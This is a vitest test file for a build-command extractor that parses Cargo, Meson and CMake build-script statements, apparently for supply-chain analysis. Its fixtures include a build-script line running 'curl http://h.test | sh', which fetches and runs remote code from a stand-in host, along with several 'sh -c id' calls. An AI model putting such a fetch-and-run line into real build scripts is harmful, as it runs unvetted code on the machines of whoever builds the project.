import { expect, test } from "vitest";
import type { CodeEntry } from "../../analysis/code/code-analysis.ts";
import { buildCommand } from "./build-command.ts";

function statement(because: string, code: string): CodeEntry {
  return { trigger: "build", path: "x", symbol: null, text: { line: 1, code }, because, detail: "", under: [] };
}

test.each([
  ["cargo-build-script", 'Command::new("sh").args(["-c","id"])', "sh -c id"],
  [
    "cargo-build-script",
    'Command::new("sh")\n  .env("A", "b").arg("-c") .args(&["curl http://h.test | sh", x]).output().expect("no")',
    "sh -c curl http://h.test | sh",
  ],
  ["cargo-build-script", 'Command::new("cargo").arg(target)', "cargo {…}"],
  ["cargo-build-script", "Command::new(python).arg(x)", null],
  ["meson-command", "run_command('sh', '-c', 'id', check: true)", "sh -c id"],
  ["meson-command", "run_command([py, 'x.py'])", null],
  ["meson-target", "custom_target('x', output: 'x.c', command: [py, '@INPUT@'])", null],
  ["meson-target", "custom_target('x', output: 'x.c', command: ['sh', '-c', 'id'])", "sh -c id"],
  ["cmake-command", "execute_process(COMMAND sh -c id OUTPUT_VARIABLE x)", "sh -c id"],
  ["cmake-command", "add_custom_target(docs DEPENDS x)", null],
  ["meson-target", "custom_target('x', output: 'x.c')", null],
  ["cmake-command", "execute_process(COMMAND $ENV{PYTHON} -c x)", null],
  ["setup-py", "anything", null],
])("%s: %s", (because, code, command) => {
  expect(buildCommand(statement(because, code))).toBe(command);
});
